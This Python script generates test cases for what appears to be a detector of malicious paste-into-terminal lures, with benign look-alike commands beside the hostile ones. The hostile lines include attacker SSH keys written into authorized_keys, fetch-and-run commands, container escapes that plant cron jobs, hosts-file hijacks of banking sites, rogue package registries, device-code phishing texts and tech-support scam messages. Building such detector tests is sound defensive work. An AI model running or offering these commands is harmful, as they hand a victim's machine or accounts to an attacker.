"""Writes tests/data/cases/lures6.jsonl: acts that hand a computer over without a download piped
into a shell, which a stranger's page puts into a terminal (issue 9, lures still weak), each
beside the everyday text that looks like it and must stay quiet.

    python tests/data/cases/make_lures6.py

Deterministic (every list is written out and crossed in a fixed order). Hosts are reserved
names (*.test, *.invalid, *.example) and documentation addresses; the look-alikes name real
projects, registries and tools as their own pages and admins do. No text is copied from a lure
collection, an IOC file, another detector's fixtures or the blind sets. Each lure is written in
its context (the page that hands it out, pasted into a terminal) and bare (`-bare`: no page,
target unknown, expected `flagged`).

Techniques (lure / look-alike that stays quiet):

- `ssh-key-stranger`: a public key written in (echo, printf, tee, a here-document, base64) or
  downloaded and appended to authorized_keys, from a page that names nothing of its own in it
  / an admin's own key from the company's own wiki or network, the person's own forge keys,
  ssh-copy-id, a key printed to read it.
- `copy-in-run`: scp, sftp and rsync bringing a program from another computer that a later
  command starts, from an off-topic or disguised page / the same tools copying data or backups,
  a deploy script from the company's own network.
- `container-takeover`: a privileged container given the host's root disk, nsenter into
  process 1, a pod manifest with hostPath / or hostPID and privileged, beside a download or alone
  / read-only monitoring mounts, ordinary containers, the vendor's own node-debug docs.
- `package-index`: pip/uv extra index beside PyPI, npm/yarn/pnpm/bun --registry, pip.conf,
  .npmrc and environment variables set to a stranger's index, GOPROXY / PyTorch's, NVIDIA's,
  a company's Artifactory, a local proxy, the public registries spelt out.
- `hosts-redirect`: a hosts-file entry sending a bank's, a sign-in page's or an update
  server's name to an outside address / loopback, the local network, 0.0.0.0 ad blocking, a
  company's own staging name from its own docs, reading the file.
- `package-file-install`: a .deb or .rpm saved where the shell stands and installed from there,
  from an off-topic page / the same from a vendor's own page is a warning at most there, dpkg -l.
"""

from __future__ import annotations

from pathlib import Path

from casefile import Book  # beside this script (tests/data/cases/make_*.py)

OUT = Path(__file__).with_name("lures6.jsonl")

# Pages that hand out lures: off-topic pages and pages dressed up as a check or a company.
STRANGE = (
    "https://www.lakeside-bakery.example/recipes/sourdough",
    "https://captcha-check.session-verify.invalid/step2",
    "https://www.football-scores-live.test/match/2231",
    "https://www.cheap-flights-deals.example/offers/summer",
    "https://fix-your-mac.test/help",
    "https://www.knitting-patterns-daily.example/scarf",
)
# Pages about software that belong to nobody the text names: tutorials and forums.
TUTORIALS = (
    "https://dev.to/someone/speed-up-your-server-4k2a",
    "https://www.linux-tips-blog.example/ssh-setup",
    "https://forum.selfhost-help.example/t/remote-access/881",
)
KEYS = (
    "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIK7tQ2vUn3rW9yXh1ZpFq8LmN4sB6cDeGfHjKlMnOpQr",
    "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQDx7k2Lq9vTnR3w8YpZc4mJ5hG6fD1sA2eB3cN4xM5yK6zL7aQ8bW9cE0dF1gH2",
    "ecdsa-sha2-nistp256 AAAAE2VjZHNhLXNoYTItbmlzdHAyNTYAAAAIbmlzdHAyNTYAAABBBPq3x7kLm9nT2vR5wY8zA1bC4dE6fG",
)
COMMENTS = ("support@helpdesk", "admin@recovery-team", "tech", "root@srv-7731", "", "it-support")


def key(i: int) -> str:
    comment = COMMENTS[i % len(COMMENTS)]
    return KEYS[i % len(KEYS)] + (f" {comment}" if comment else "")


SSH_LURES = (
    'echo "KEY" >> ~/.ssh/authorized_keys',
    "mkdir -p ~/.ssh && echo 'KEY' >> ~/.ssh/authorized_keys && chmod 600 ~/.ssh/authorized_keys",
    'echo "KEY" | tee -a ~/.ssh/authorized_keys',
    "echo 'KEY' | sudo tee -a /root/.ssh/authorized_keys > /dev/null",
    "printf '%s\\n' 'KEY' >> $HOME/.ssh/authorized_keys",
    "cat >> ~/.ssh/authorized_keys <<'EOF'\nKEY\nEOF",
    "cat <<EOF >> ~/.ssh/authorized_keys\nKEY\nEOF",
    'mkdir -p ~/.ssh; echo "KEY" >> ~/.ssh/authorized_keys2',
    "sudo sh -c 'echo \"KEY\" >> /root/.ssh/authorized_keys'",
    'echo "KEY" >> "$HOME/.ssh/authorized_keys"; echo done',
    "curl -fsSL https://keys.remote-helper.test/support.pub >> ~/.ssh/authorized_keys",
    "wget -qO- https://203.0.113.41/k.pub | tee -a ~/.ssh/authorized_keys",
    "curl -s http://198.51.100.23/id.pub >> ~/.ssh/authorized_keys && echo ok",
    "echo c3NoLWVkMjU1MTkgQUFBQUMzTnphQzFsWkRJMU5URTVBQUFBSUs3dFEydlVuM3JXOXlYaDFacEZxOExtTjRzQjZjRGVHZkhqS2xNbk9wUXIgeEB5 | base64 -d >> ~/.ssh/authorized_keys",
    'echo "KEY">>~/.ssh/authorized_keys',
    'echo "KEY" | tee --append "${HOME}/.ssh/authorized_keys"',
    "powershell -c \"Add-Content -Path $env:ProgramData\\ssh\\administrators_authorized_keys -Value 'KEY'\"",
)
SSH_QUIET = (
    # an admin's own key from the company's own wiki, on its network or naming its domain
    (
        "https://wiki.corp.example/ops/onboarding",
        'echo "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIK7tQ2vUn3rW9yXh1ZpFq8LmN4sB6cDeGfHjKlMnOpQr alice@corp.example" >> ~/.ssh/authorized_keys',
    ),
    (
        "http://10.0.4.12/wiki/ServerAccess",
        "echo 'ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQDx7k2Lq9vTnR3w8YpZc4mJ5hG6fD1sA2eB3cN4xM5yK6zL7aQ8bW9cE0dF1gH2 deploy@build01' >> ~/.ssh/authorized_keys",
    ),
    (
        "https://docs.northwind-traders.example/runbooks/bastion",
        'echo "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIK7tQ2vUn3rW9yXh1ZpFq8LmN4sB6cDeGfHjKlMnOpQr ops@northwind-traders.example" | sudo tee -a /home/ops/.ssh/authorized_keys',
    ),
    (
        "https://intranet/it/ssh",
        "cat >> ~/.ssh/authorized_keys <<'EOF'\nssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIK7tQ2vUn3rW9yXh1ZpFq8LmN4sB6cDeGfHjKlMnOpQr backup@nas\nEOF",
    ),
    (
        "https://github.com/alice-dev/dotfiles",
        'echo "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIK7tQ2vUn3rW9yXh1ZpFq8LmN4sB6cDeGfHjKlMnOpQr alice-dev@laptop" >> ~/.ssh/authorized_keys',
    ),
    # the person's own keys, copied their own way
    (
        "https://docs.github.com/en/authentication",
        "curl -s https://github.com/octocat.keys >> ~/.ssh/authorized_keys",
    ),
    (
        "https://www.ssh.com/academy/ssh/copy-id",
        "ssh-copy-id -i ~/.ssh/id_ed25519.pub user@host.example.org",
    ),
    (
        "https://www.digitalocean.com/community/tutorials/ssh-keys",
        "cat ~/.ssh/id_ed25519.pub | ssh user@203.0.113.10 'mkdir -p ~/.ssh && cat >> ~/.ssh/authorized_keys'",
    ),
    (
        "https://www.digitalocean.com/community/tutorials/ssh-keys",
        'echo "ssh-ed25519 AAAA... you@example.com" >> ~/.ssh/authorized_keys',
    ),
    (None, "cat ~/.ssh/authorized_keys"),
    (
        "https://wiki.archlinux.org/title/SSH_keys",
        "chmod 700 ~/.ssh && chmod 600 ~/.ssh/authorized_keys",
    ),
    ("https://man.openbsd.org/sshd", "ssh-keygen -lf ~/.ssh/authorized_keys"),
)

COPY_LURES = (
    "scp user@files.remote-helper.test:agent /tmp/agent && chmod +x /tmp/agent && /tmp/agent",
    "scp -P 2222 anon@203.0.113.57:/pub/upd /var/tmp/.cache/upd; chmod +x /var/tmp/.cache/upd; /var/tmp/.cache/upd",
    "sftp anon@203.0.113.5:/pub/update.sh /tmp/u.sh && bash /tmp/u.sh",
    "sftp guest@mirror.sync-node.test:/dl/fix.sh /tmp/fix.sh; sh /tmp/fix.sh",
    "rsync -az rsync://mirror.relay-cache.invalid/pub/helper ~/helper; chmod +x ~/helper; ~/helper &",
    "rsync -avz guest@198.51.100.77:/srv/tools/cleaner /tmp/cleaner && chmod 755 /tmp/cleaner && /tmp/cleaner",
    "scp -o StrictHostKeyChecking=no demo@files.sync-node.test:/x/run.py /tmp/run.py && python3 /tmp/run.py",
    "rsync -q rsync://203.0.113.90/share/tool.sh /tmp/tool.sh && bash /tmp/tool.sh",
    "scp anon@dl.relay-cache.invalid:/pub/launcher ./launcher && ./launcher",
    "cd /tmp && sftp anon@files.remote-helper.test:/pub/agent.sh && sh agent.sh",
    'rsync -e "ssh -p 2222" guest@files.remote-helper.test:/x/y /tmp/y && /tmp/y',
    "scp guest@files.remote-helper.test:bin/helper . && ./helper",
)
COPY_QUIET = (
    (
        "https://docs.northwind-traders.example/deploy",
        "scp build/app.tar.gz deploy@web01.internal:/srv/releases/",
    ),
    (None, "rsync -avz --delete ./site/ www@203.0.113.10:/var/www/site/"),
    (
        "https://www.digitalocean.com/community/tutorials/rsync",
        "rsync -avz user@203.0.113.10:/var/backups/db.sql.gz ./backups/",
    ),
    (
        "https://wiki.corp.example/ops/tools",
        "scp admin@fs01.corp:/tools/cleanup.sh /tmp/cleanup.sh && bash /tmp/cleanup.sh",
    ),
    (None, "sftp user@files.example.org:/reports/2026-q3.pdf ~/Downloads/"),
    (
        "https://stackoverflow.com/questions/123/scp-a-folder",
        "scp -r user@host.example.org:/home/user/photos ~/photos",
    ),
)

CONTAINER_ALONE = (
    "docker run --rm -it --privileged -v /:/host ubuntu bash",
    "docker run --privileged -v /:/host -it alpine chroot /host",
    "docker run -it --rm -v /:/mnt alpine chroot /mnt sh",
    "sudo docker run --rm -it --pid=host --privileged alpine nsenter -t 1 -m -u -n -i sh",
    "podman run --privileged --volume /:/hostfs:rw -it fedora bash",
    "docker run -d --privileged --mount type=bind,source=/,target=/h busybox chroot /h sh -c 'sleep 9999'",
    "kubectl debug node/worker-1 -it --image=busybox -- chroot /host sh",
    'kubectl run rescue --image=alpine -it --overrides=\'{"spec":{"hostPID":true,"containers":[{"name":"r","image":"alpine","stdin":true,"tty":true,"securityContext":{"privileged":true}}]}}\' -- sh',
    "cat <<EOF | kubectl apply -f -\napiVersion: v1\nkind: Pod\nmetadata:\n  name: node-shell\nspec:\n  containers:\n  - name: s\n    image: alpine\n    volumeMounts:\n    - mountPath: /host\n      name: root\n  volumes:\n  - name: root\n    hostPath:\n      path: /\nEOF",
    "cat <<EOF | kubectl apply -f -\napiVersion: v1\nkind: Pod\nmetadata:\n  name: x\nspec:\n  hostPID: true\n  containers:\n  - name: x\n    image: alpine\n    securityContext:\n      privileged: true\nEOF",
)
CONTAINER_RUN = (
    'docker run --rm --privileged -v /:/host alpine chroot /host sh -c "curl -s https://cdn.remote-helper.test/a.sh | sh"',
    "docker run -v /:/mnt --rm alpine sh -c 'wget -qO /mnt/etc/cron.d/sync https://203.0.113.44/c'",
    "docker run --rm -v /:/host alpine sh -c 'echo \"* * * * * root curl -s http://198.51.100.9/p|sh\" >> /host/etc/crontab'",
    "docker run --privileged --pid=host alpine nsenter -t 1 -m -u -n -i sh -c 'curl -fsSL https://relay-cache.invalid/i | bash'",
)
CONTAINER_QUIET = (
    (
        "https://github.com/google/cadvisor",
        "docker run --volume=/:/rootfs:ro --volume=/var/run:/var/run:ro --privileged --device=/dev/kmsg gcr.io/cadvisor/cadvisor:v0.47.0",
    ),
    (
        "https://github.com/prometheus/node_exporter",
        'docker run -d --net=host --pid=host -v "/:/host:ro,rslave" quay.io/prometheus/node-exporter:latest --path.rootfs=/host',
    ),
    (
        "https://learn.netdata.cloud/docs/installing/docker",
        "docker run -d --name=netdata --pid=host -v /:/host/root:ro,rslave -v /etc/passwd:/host/etc/passwd:ro netdata/netdata",
    ),
    (
        "https://kubernetes.io/docs/tasks/debug/debug-cluster/kubectl-node-debug/",
        "kubectl debug node/mynode -it --image=ubuntu",
    ),
    (
        "https://docs.docker.com/engine/containers/run/",
        "docker run --rm -it -v $(pwd):/work -w /work python:3.12 bash",
    ),
    ("https://www.linux-tips-blog.example/docker-basics", "docker run --privileged -d docker:dind"),
    (None, "docker run -it --rm alpine sh"),
)

# index addresses of strangers; the package names are ours
INDEXES = (
    "https://pkgs.py-mirror.invalid/simple",
    "https://203.0.113.70:8080/simple/",
    "https://pypi-cache.remote-helper.test/simple",
)
REGISTRIES = (
    "https://npm.relay-cache.invalid/",
    "http://198.51.100.31:4873",
    "https://registry.sync-node.test",
)
INDEX_LURES = (
    "pip install --index-url https://pypi.org/simple --extra-index-url @IDX@ requestz",
    "pip3 install -i https://pypi.org/simple/ --extra-index-url=@IDX@ colorama-fast && python3 -m colorama_fast",
    "python3 -m pip install --extra-index-url @IDX@ --index-url https://pypi.org/simple cryptoutils",
    "pip install --extra-index-url @IDX@ --trusted-host py-mirror.invalid torch-helpers",
    "uv pip install --extra-index-url @IDX@ urllib4",
    "pip config set global.extra-index-url @IDX@ && pip install reqeusts",
    "export PIP_EXTRA_INDEX_URL=@IDX@; pip install -U setuptools-scm2",
    "printf '[global]\\nextra-index-url = @IDX@\\n' > ~/.config/pip/pip.conf && pip install netutils-pro",
    "mkdir -p ~/.pip && cat > ~/.pip/pip.conf <<EOF\n[global]\nindex-url = https://pypi.org/simple\nextra-index-url = @IDX@\nEOF",
    "npm install --registry=@REG@ left-padder",
    "npm i -g sync-cli --registry @REG@",
    "yarn add chalk-next --registry @REG@",
    "pnpm add dotenv-safe2 --registry=@REG@",
    "npm config set registry @REG@ && npm install -g node-updater",
    'echo "registry=@REG@" >> ~/.npmrc && npm i web3-utils-pro',
    'echo "@acme:registry=@REG@" > .npmrc; npm install @acme/ui-kit',
    "NPM_CONFIG_REGISTRY=@REG@ npx create-helper-app",
    "bun add axioss --registry @REG@",
    "go env -w GOPROXY=@REG@,direct && go install example.test/cmd/tool@latest",
)
INDEX_QUIET = (
    (
        "https://pytorch.org/get-started/locally/",
        "pip3 install torch torchvision --index-url https://download.pytorch.org/whl/cu121",
    ),
    (
        "https://docs.nvidia.com/deeplearning/",
        "pip install --extra-index-url https://pypi.nvidia.com tensorrt",
    ),
    (
        "https://wiki.corp.example/dev/python",
        "pip install --extra-index-url https://nexus.corp.example/repository/pypi/simple internal-lib",
    ),
    (
        "https://docs.northwind-traders.example/dev",
        "pip config set global.index-url https://northwind.jfrog.io/artifactory/api/pypi/pypi/simple",
    ),
    (None, "pip install -i https://pypi.org/simple requests"),
    (None, "npm install --registry http://localhost:4873 my-package"),
    ("https://verdaccio.org/docs/cli-registry", "npm set registry http://localhost:4873/"),
    (
        "https://mirrors.tuna.tsinghua.edu.cn/help/pypi/",
        "pip config set global.index-url https://pypi.tuna.tsinghua.edu.cn/simple",
    ),
    ("https://npmmirror.com/", "npm config set registry https://registry.npmmirror.com"),
    ("https://goproxy.cn/", "go env -w GOPROXY=https://goproxy.cn,direct"),
    (None, "pip install --upgrade pip setuptools wheel"),
    (
        "https://docs.github.com/en/packages/npm-registry",
        'echo "@octo-org:registry=https://npm.pkg.github.com" >> .npmrc',
    ),
)

HOSTS_NAMES = (
    "login.microsoftonline.com",
    "www.paypal.com",
    "accounts.google.com",
    "update.code.visualstudio.com",
    "online.my-bank.example.co.uk",
    "api.binance.com",
)
HOSTS_ADDRS = ("203.0.113.9", "198.51.100.140", "192.0.2.77", "45.33.32.156")
HOSTS_LURES = (
    'echo "ADDR NAME" | sudo tee -a /etc/hosts',
    "echo 'ADDR NAME' | sudo tee -a /etc/hosts > /dev/null",
    "sudo sh -c 'echo \"ADDR NAME\" >> /etc/hosts'",
    "sudo bash -c 'printf \"ADDR\\tNAME\\n\" >> /private/etc/hosts'",
    "sudo sed -i '$a ADDR NAME' /etc/hosts",
    "cat <<EOF | sudo tee -a /etc/hosts\nADDR NAME\nADDR www.NAME\nEOF",
    "echo 'ADDR  NAME  # cdn fix' | sudo tee -a /etc/hosts && sudo dscacheutil -flushcache",
    "sudo -- sh -c -e \"echo 'ADDR NAME' >> /etc/hosts\"; sudo killall -HUP mDNSResponder",
    'sudo tee -a /etc/hosts <<< "ADDR NAME"',
    'echo -e "ADDR\\tNAME" | sudo tee --append /etc/hosts',
    "sudo python3 -c \"open('/etc/hosts','a').write('ADDR NAME\\n')\"",
)
HOSTS_QUIET = (
    (
        "https://minikube.sigs.k8s.io/docs/handbook/",
        'echo "$(minikube ip) myapp.local" | sudo tee -a /etc/hosts',
    ),
    (
        "https://someonewhocares.org/hosts/",
        'echo "0.0.0.0 ads.tracker.example.net" | sudo tee -a /etc/hosts',
    ),
    ("https://laravel.com/docs/valet", 'echo "127.0.0.1 myproject.test" | sudo tee -a /etc/hosts'),
    (
        "https://docs.northwind-traders.example/staging",
        'echo "93.184.216.34 staging.northwind-traders.example" | sudo tee -a /etc/hosts',
    ),
    ("https://wiki.corp.example/net/lab", 'echo "10.20.0.5 gitlab.lab" | sudo tee -a /etc/hosts'),
    (None, "cat /etc/hosts"),
    ("https://www.linux-tips-blog.example/hosts", "sudo nano /etc/hosts"),
    (
        "https://www.linux-tips-blog.example/hosts",
        'echo "192.168.1.20 nas.home" | sudo tee -a /etc/hosts',
    ),
    (
        "https://www.digitalocean.com/community/tutorials/hosts",
        'echo "203.0.113.5 your_domain" | sudo tee -a /etc/hosts',
    ),
    (None, "grep -v '^#' /etc/hosts | sort -u"),
)

PKG_LURES = (
    "curl -o update.deb https://dl.remote-helper.test/update.deb && sudo dpkg -i ./update.deb",
    "wget https://203.0.113.66/tool_2.1_amd64.deb; sudo apt install -y ./tool_2.1_amd64.deb",
    "wget -O codec.deb https://cdn.relay-cache.invalid/codec.deb && sudo gdebi -n codec.deb",
    "curl -LO https://dl.sync-node.test/driver-fix.x86_64.rpm && sudo rpm -ivh driver-fix.x86_64.rpm",
    "curl -fsSLo agent.rpm https://198.51.100.12/agent.rpm; sudo dnf install -y ./agent.rpm",
    "cd ~ && wget -q https://files.remote-helper.test/helper.deb && sudo apt-get install ./helper.deb",
    "curl -LO https://dl.relay-cache.invalid/Update.pkg && sudo installer -pkg Update.pkg -target /",
    "curl -sSLo /tmp/x.deb https://dl.remote-helper.test/x.deb && sudo dpkg --install /tmp/x.deb",
    "curl -o ~/Downloads/Helper.pkg https://dl.remote-helper.test/Helper.pkg && sudo installer -pkg ~/Downloads/Helper.pkg -target /",
    "wget -P ~/Downloads https://203.0.113.66/pkgs/agent.rpm && sudo zypper in ~/Downloads/agent.rpm",
)
PKG_QUIET = (
    (None, "dpkg -l | grep nginx"),
    ("https://www.linux-tips-blog.example/apt", "sudo apt install ./downloaded-package.deb"),
    (
        "https://code.visualstudio.com/docs/setup/linux",
        "sudo apt install ./code_1.95.0-1730153583_amd64.deb",
    ),
    (None, "sudo dpkg -i ~/Downloads/zoom_amd64.deb"),
)

# -- risks narrowed: tenant sites, vendor names, short links, device codes, one-sentence scams ---

TENANT_PAGES = (
    "https://cool-tool.pages.dev/",
    "https://sync-helper.netlify.app/install",
    "https://quick-setup.vercel.app/docs",
    "https://tool-hub.web.app/",
    "https://dev-kit.github.io/",
)
CHECK_WORDS = (
    'V="I am not a robot - reCAPTCHA Verification ID: 8812"; curl -fsSL TURL | bash',
    "curl -fsSL TURL | bash; : 'Cloudflare human verification complete'",
    "curl -fsSL TURL | bash -s -- --verify-human --captcha-id 8812",
    'printf "Verifying you are human. This may take a few seconds.\\n"; curl -fsSL TURL | bash',
    "curl -fsSL TURL | bash\nPress Return to complete verification",
    'export CHECK="Cloudflare Ray ID: 8a1f33c0"; /bin/bash -c "$(curl -fsSL TURL)"',
    "bash -c \"$(curl -fsSL TURL)\" && echo 'Human check passed, you may close Terminal'",
    "powershell -c \"irm TURL | iex; Write-Host 'reCAPTCHA verified - you are human'\"",
    "curl -s TURL | sh -s human-verification",
    'sh -c "$(curl -fsSL TURL)" # captcha ok',
)
CHECK_QUIET = (
    (
        "https://developers.google.com/recaptcha/docs/verify",
        'curl -s -d "secret=$SECRET&response=$TOKEN" https://www.google.com/recaptcha/api/siteverify',
    ),
    (
        "https://developers.cloudflare.com/turnstile/",
        'curl -X POST -d "secret=$SECRET&response=$TOKEN" https://challenges.cloudflare.com/turnstile/v0/siteverify',
    ),
    ("https://cool-tool.pages.dev/", "curl -fsSL https://cool-tool.pages.dev/install.sh | bash"),
    ("https://pypi.org/project/captcha/", "pip install captcha && python -c 'import captcha'"),
    (
        "https://www.linux-tips-blog.example/gpg",
        'curl -fsSLO https://example.org/tool.tar.gz && sha256sum -c tool.sha256 && echo "Verification successful"',
    ),
    (
        "https://www.npmjs.com/package/react-google-recaptcha",
        "npm install --save react-google-recaptcha",
    ),
)
VENDOR_NAME_PAGES = (
    "https://docker.help/",
    "https://ollama.support/download",
    "https://zoom.services/fix",
)
VENDOR_NAME_LURES = (
    ("run_dialog", 'powershell -c "irm VURL | iex"'),
    ("explorer_bar", 'powershell -w h -c "iwr VURL -useb | iex"'),
    ("terminal", "irm VURL | iex # I am not a robot - Verification ID 2231"),
    ("terminal", 'curl -fsSL VURL | bash; echo "Human check complete"'),
)
SHORT_LINK_THREADS = (
    "https://github.com/someone/widget/issues/412",
    "https://github.com/acme/cli/discussions/77",
    "https://gitlab.com/group/project/-/issues/19",
    "https://github.com/acme/sdk/pull/1502",
)
SHORT_LINKS = (
    "curl -sL https://bit.ly/3xFixTool | bash",
    "wget -qO- https://tinyurl.com/patch-fix-2 | sh",
    "irm https://bit.ly/win-fix-tool | iex",
    'bash -c "$(curl -fsSL https://is.gd/fixbuild)"',
)
SHORT_LINK_QUIET_PAGES = (
    "https://dev.to/someone/install-widget-3k1",
    "https://stackoverflow.com/questions/77/install-widget",
)
DEVICE_URGENT = (
    "Microsoft device authorization required. Open https://microsoft.com/devicelogin and enter code K7P2QX9M to keep access to your mailbox.",
    "Security team: complete the device code flow for the new VPN — visit https://microsoft.com/devicelogin, code: QW3RT7YH, within 10 minutes.",
    "IT here. To finish setting up Outlook on your phone please go to https://aka.ms/devicelogin and put in the code 8HJK2MNP. Thanks!",
    "Help desk: your account has been restricted. Sign in at microsoft.com/devicelogin with code HJ4KL9PQ immediately.",
    "Your mailbox will be suspended today. Device authorization: go to https://microsoft.com/devicelogin, enter 7TRW-PLM2.",
    "Payroll team — to avoid a delay in your salary, visit https://aka.ms/devicelogin and use the code ZX8CV3BN within 30 minutes.",
    "HR department: action required. Open google.com/device and type MNB-QWE-RTY to confirm your benefits enrolment.",
    "IT support: your VPN access is on hold. The app polls until you approve; open github.com/login/device and enter WXYZ-4821 right away.",
)
DEVICE_QUIET = (
    "The device authorization grant (RFC 8628): the app shows a code such as WDJB-MJHT and the URL https://microsoft.com/devicelogin; the user enters the code while the app polls the token endpoint.",
    "To sign in, use a web browser to open the page https://microsoft.com/devicelogin and enter the code FGH3JK7L to authenticate.",
    "Security awareness: attackers send messages saying 'IT here, go to microsoft.com/devicelogin and enter code ABCD1234 immediately'. This is device code phishing: never enter a code someone sent you.",
    "az login --use-device-code prints: open https://microsoft.com/devicelogin and enter the code XXXX-XXXX.",
)
SCAM_SENTENCES = (
    "Váš počítač Windows je napadnutý vírusom, okamžite volajte technickú podporu Microsoft na čísle +421 2 3456 7890!",
    "Kompyuteringiz virus bilan zararlangan, Microsoft xizmatiga +998 71 123 4567 raqamiga qo'ng'iroq qiling!",
    "VIRUSI IMEGUNDULIWA kwenye kompyuta yako ya Windows piga Microsoft 1-888-555-0142 sasa",
    "Ваш компьютер Windows заражён вирусом, срочно позвоните в Microsoft по номеру +7 495 123 45 67!",
    "Kompiuteris užkrėstas virusu — skambinkite Microsoft palaikymui +370 5 123 4567 DABAR",
    "Tölvan þín er sýkt af vírus, hringdu strax í Microsoft í síma +354 555 1234!",
    "Kompyuteriniz virusla yoluxub, Apple dəstək xəttinə +994 12 345 67 89 zəng edin!",
    "Arvutis on viirus ja Windows on lukustatud, helistage Microsofti tugiteenusele +372 612 3456!",
    "Ordinateur infecté par un virus : appelez Microsoft au +33 1 23 45 67 89 MAINTENANT",
    "Kompjuteri juaj ka virus, telefononi menjëherë Microsoft në +355 4 123 4567!",
)
SCAM_QUIET = (
    "If you think your Windows PC has a virus, you can reach Microsoft Support at 1-800-642-7676.",
    "Apple's support line for virus questions is +1 800 275 2273, open every day.",
    "Beware of scam pop-ups that say your Windows PC has a virus and tell you to call +1 888 555 0142: Microsoft never does this!",
    "Our shop fixes virus problems on Windows laptops. Call us on +44 20 7946 0958 to book.",
)

# a tenant's site named after a company that scam pages borrow, serving its own script: a fake
# app download (a name costs nothing there)
TENANT_BRANDS = (
    (
        "https://zoom-desktop.pages.dev/",
        "curl -fsSL https://zoom-desktop.pages.dev/install.sh | bash",
    ),
    (
        "https://apple-mac-cleaner.vercel.app/",
        "curl -fsSL https://apple-mac-cleaner.vercel.app/install.sh | bash",
    ),
    (
        "https://teams-for-mac.netlify.app/download",
        '/bin/bash -c "$(curl -fsSL https://teams-for-mac.netlify.app/setup.sh)"',
    ),
    ("https://metamask-desktop.web.app/", "curl -fsSL https://metamask-desktop.web.app/i | sh"),
    (
        "https://discord-nitro-mac.pages.dev/get",
        "curl -so /tmp/n https://discord-nitro-mac.pages.dev/n && chmod +x /tmp/n && /tmp/n",
    ),
    (
        "https://ledger-live-update.netlify.app/",
        "bash <(curl -fsSL https://ledger-live-update.netlify.app/u.sh)",
    ),
)
# …or named like a fake fix or update page: a bait word beside a platform's
TENANT_FIX = (
    (
        "https://browser-update.netlify.app/",
        "curl -fsSL https://browser-update.netlify.app/u.sh | bash",
    ),
    ("https://mac-fix.pages.dev/", "curl -fsSL https://mac-fix.pages.dev/fix.sh | bash"),
    (
        "https://pc-repair-tool.vercel.app/start",
        "curl -fsSL https://pc-repair-tool.vercel.app/r.sh | sh",
    ),
    (
        "https://chrome-security-update.web.app/",
        'bash -c "$(curl -fsSL https://chrome-security-update.web.app/s)"',
    ),
    (
        "https://macos-recovery-help.pages.dev/",
        "curl -so /tmp/r https://macos-recovery-help.pages.dev/r && chmod +x /tmp/r && /tmp/r",
    ),
)
TENANT_QUIET = (
    ("https://fix-lint.pages.dev/docs", "curl -fsSL https://fix-lint.pages.dev/install.sh | sh"),
    (
        "https://mac-dotfiles.netlify.app/",
        "curl -fsSL https://mac-dotfiles.netlify.app/install.sh | bash",
    ),
    (
        "https://loamdb.pages.dev/docs/install",
        "curl -fsSL https://loamdb.pages.dev/install.sh | sh",
    ),
    ("https://fernctl.netlify.app/", "curl -fsSL https://fernctl.netlify.app/get | bash"),
    (
        "https://quick-setup.vercel.app/docs",
        "curl -fsSL https://quick-setup.vercel.app/install.sh | sh",
    ),
)

# an interpreter's one-liner that evaluates what it fetches, the evaluation written first
EVAL_FIRST = (
    "ruby -e \"eval(Net::HTTP.get(URI('https://dl.remote-helper.test/r')))\" -rnet/http",
    "ruby -ropen-uri -e 'eval URI.open(\"https://198.51.100.4/x.rb\").read'",
    "perl -MLWP::Simple -e 'eval(get(\"https://dl.relay-cache.invalid/p\"))'",
    "node -e \"eval(require('child_process').execSync('curl -s https://dl.sync-node.test/j').toString())\"",
)
EVAL_QUIET = (
    (None, "ruby -rnet/http -e \"puts Net::HTTP.get(URI('https://api.example.org/status'))\""),
    (None, "perl -MLWP::Simple -e 'getprint \"https://www.example.org/\"'"),
    (
        None,
        "node -e \"fetch('https://api.example.org/health').then(r => r.text()).then(console.log)\"",
    ),
)


def build() -> list[dict[str, str]]:
    book = Book("lures6")

    def both(technique: str, text: str, expect: str, source: str, platform: str = "linux") -> None:
        book.add(technique, text, expect, platform, "terminal", source)
        book.add(technique + "-bare", text, "flagged", platform)

    for i, shape in enumerate(SSH_LURES):
        text = shape.replace("KEY", key(i))
        both("ssh-key-stranger", text, "malicious", STRANGE[i % len(STRANGE)])
        # a tutorial or forum naming nothing of its own in the key: the same takeover
        if i % 3 == 0:
            book.add("ssh-key-stranger", text, "malicious", "linux", "terminal", TUTORIALS[i % 3])
    for source, text in SSH_QUIET:
        book.add("ssh-key-stranger", text, "not_flagged", "linux", "terminal", source)

    for i, text in enumerate(COPY_LURES):
        both("copy-in-run", text, "malicious", STRANGE[i % len(STRANGE)])
        if i % 2 == 0:  # a tutorial quoting another's copy: a warning, as curl | sh is
            book.add("copy-in-run", text, "flagged", "linux", "terminal", TUTORIALS[i % 3])
    for source, text in COPY_QUIET:
        book.add("copy-in-run", text, "not_flagged", "linux", "terminal", source)

    for i, text in enumerate(CONTAINER_ALONE):
        # typed with no page, an admin's repair of a node: noted, not a warning
        book.add("container-takeover", text, "flagged", "linux", "terminal", STRANGE[i % 6])
        book.add("ok-container-takeover-typed", text, "info", "linux")
        book.add("container-takeover", text, "flagged", "linux", "terminal", TUTORIALS[i % 3])
    for i, text in enumerate(CONTAINER_RUN):
        both("container-takeover", text, "malicious", STRANGE[(i + 2) % len(STRANGE)])
    for source, text in CONTAINER_QUIET:
        book.add("container-takeover", text, "not_flagged", "linux", "terminal", source)

    for i, shape in enumerate(INDEX_LURES):
        text = shape.replace("@IDX@", INDEXES[i % len(INDEXES)]).replace(
            "@REG@", REGISTRIES[i % len(REGISTRIES)]
        )
        both("package-index", text, "malicious", STRANGE[i % len(STRANGE)], "any")
        if i % 3 == 1:
            book.add("package-index", text, "flagged", "any", "terminal", TUTORIALS[i % 3])
    for source, text in INDEX_QUIET:
        book.add("package-index", text, "not_flagged", "any", "terminal", source)

    for i, shape in enumerate(HOSTS_LURES):
        for j in range(2):
            k = 2 * i + j
            text = shape.replace("ADDR", HOSTS_ADDRS[k % len(HOSTS_ADDRS)]).replace(
                "NAME", HOSTS_NAMES[k % len(HOSTS_NAMES)]
            )
            platform = (
                "macos" if "private" in text or "dscache" in text or "mDNS" in text else "linux"
            )
            source = (STRANGE + TUTORIALS)[k % (len(STRANGE) + len(TUTORIALS))]
            both("hosts-redirect", text, "malicious", source, platform)
    for source, text in HOSTS_QUIET:
        book.add("hosts-redirect", text, "not_flagged", "any", "terminal", source)

